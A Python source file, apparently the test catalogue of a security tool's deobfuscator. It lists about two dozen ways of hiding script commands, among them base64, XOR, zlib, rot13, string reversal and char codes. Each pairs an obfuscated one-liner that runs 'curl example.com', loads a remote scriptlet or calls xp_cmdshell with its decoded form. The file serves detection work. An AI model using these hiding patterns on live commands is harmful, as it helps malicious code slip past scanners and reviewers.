"""The ways of hiding that the readers of script languages undo, each with an inert example."""

from __future__ import annotations

from vedette.commands.base import Method
from vedette.schema.command import Language

_JS, _NODE, _VBS = Language.JSCRIPT, Language.JAVASCRIPT, Language.VBSCRIPT
_PY, _PL, _RB, _PHP = Language.PYTHON, Language.PERL, Language.RUBY, Language.PHP
_URL = "http://example.com/a"

METHODS: tuple[Method, ...] = (
    Method(
        "concatenation", "A text in pieces", _JS, "new ActiveXObject('WScr'+'ipt.Shell').Run('ca'+'lc.exe')", "calc.exe"
    ),
    Method(
        "char-codes",
        "Characters by their numbers",
        _JS,
        "GetObject('script:'+String.fromCharCode(104,116,116,112,58,47,47,101,120,97,109,112,108,101,46,99,111,109,47,97))",
        _URL,
    ),
    Method(
        "hex-escape",
        "Characters written as escapes",
        _NODE,
        r"fetch('\x68\x74\x74\x70\x3a\x2f\x2f\x65\x78\x61\x6d\x70\x6c\x65\x2e\x63\x6f\x6d\x2f\x61')",
        _URL,
    ),
    Method(
        "url-encoding",
        "Percent signs and hex digits",
        _JS,
        "GetObject(unescape('script%3Ahttp%3A//example.com/a'))",
        _URL,
    ),
    Method(
        "split", "A text cut at a mark and joined", _NODE, "fetch('http|://exam|ple.com/a'.split('|').join(''))", _URL
    ),
    Method("reverse", "A text backwards", _VBS, 'GetObject StrReverse("a/moc.elpmaxe//:ptth:tpircs")', _URL),
    Method(
        "replace",
        "Characters put in, to be taken out",
        _VBS,
        'GetObject Replace("script:ht~tp:/~/example.com/a","~","")',
        _URL,
    ),
    Method(
        "index-pick",
        "Parts picked out of a table by number",
        _NODE,
        "var t=['.com/a','http://','example'];fetch(t[1]+t[2]+t[0])",
        _URL,
    ),
    Method(
        "substring",
        "Parts cut out of a longer text",
        _VBS,
        'GetObject Mid("xxscript:http://example.com/ayy",3,27)',
        _URL,
    ),
    Method(
        "xor",
        "Numbers or bytes combined with a key",
        _PY,
        "import os;os.system(''.join(chr(c^7) for c in [100,114,117,107,39,98,127,102,106,119,107,98,41,100,104,106]))",
        "curl example.com",
    ),
    Method(
        "base64",
        "Base64",
        _PY,
        "import base64,os;os.system(base64.b64decode('Y3VybCBodHRwOi8vZXhhbXBsZS5jb20vYQ==').decode())",
        _URL,
    ),
    Method(
        "deflate",
        "Compressed data",
        _PY,
        "import zlib,base64\n"
        "exec(zlib.decompress(base64.b64decode('eJwrKMrMK9FQzygpKbDS10+tSMwtyEnVS87P1U9U1wQAnl8KDg==')))",
        _URL,
        "Also gzip, bzip2 and xz.",
    ),
    Method(
        "hex", "Pairs of hex digits", _PHP, "system(hex2bin('6375726c206578616d706c652e636f6d'));", "curl example.com"
    ),
    Method(
        "rot13",
        "Letters moved by thirteen",
        _PY,
        "import codecs;exec(codecs.decode(\"cevag('rknzcyr.pbz')\",'rot13'))",
        "example.com",
    ),
    Method(
        "join",
        "A list of parts joined",
        _PL,
        "system(join('',map{chr}(99,117,114,108)).' example.com');",
        "curl example.com",
    ),
    Method(
        "translate",
        "Characters swapped one for one",
        _PL,
        '$_="phey rknzcyr.pbz";tr/a-z/n-za-m/;system($_);',
        "curl example.com",
    ),
    Method("uuencode", "Uuencoded text", _PL, "system(unpack('u','08W5R;\"!E>&%M<&QE+F-O;0``'));", "curl example.com"),
    Method(
        "format-operator",
        "Values put into a pattern",
        _PY,
        "import os;os.system('%s example.%s' % ('curl','com'))",
        "curl example.com",
    ),
    Method(
        "variable-function",
        "A function called by a text that names it",
        _PHP,
        "$f='sys'.'tem';$f('curl example.com');",
        "system('curl example.com')",
    ),
    Method(
        "concatenation",
        "Code made of text and run",
        _RB,
        "eval('sys'+'tem(\"curl example.com\")')",
        'system("curl example.com")',
    ),
    Method("complement", "Bytes turned over, bit by bit", _PHP, "echo ~(~'example.com');", "example.com"),
    Method(
        "char-codes",
        "Characters by their numbers, in a statement",
        Language.SQL,
        "EXEC xp_cmdshell CHAR(99)+CHAR(117)+CHAR(114)+CHAR(108)+' example.com'",
        "curl example.com",
    ),
    Method(
        "hex",
        "A statement written in hex digits",
        Language.SQL,
        "DECLARE @q VARCHAR(99);SET @q=CAST(0x455845432078705f636d647368656c6c20276469722720 AS VARCHAR(99));EXEC(@q)",
        "EXEC xp_cmdshell 'dir'",
    ),
    Method(
        "base32",
        "Base32",
        _PY,
        "import base64,os;os.system(base64.b32decode('MN2XE3BAMV4GC3LQNRSS4Y3PNU======'))",
        "curl example.com",
    ),
    Method(
        "reverse",
        "A text backwards, by a slice",
        _PY,
        "import os;os.system('moc.elpmaxe lruc'[::-1])",
        "curl example.com",
    ),
)
"""Every way of hiding, with what must show when it is undone."""
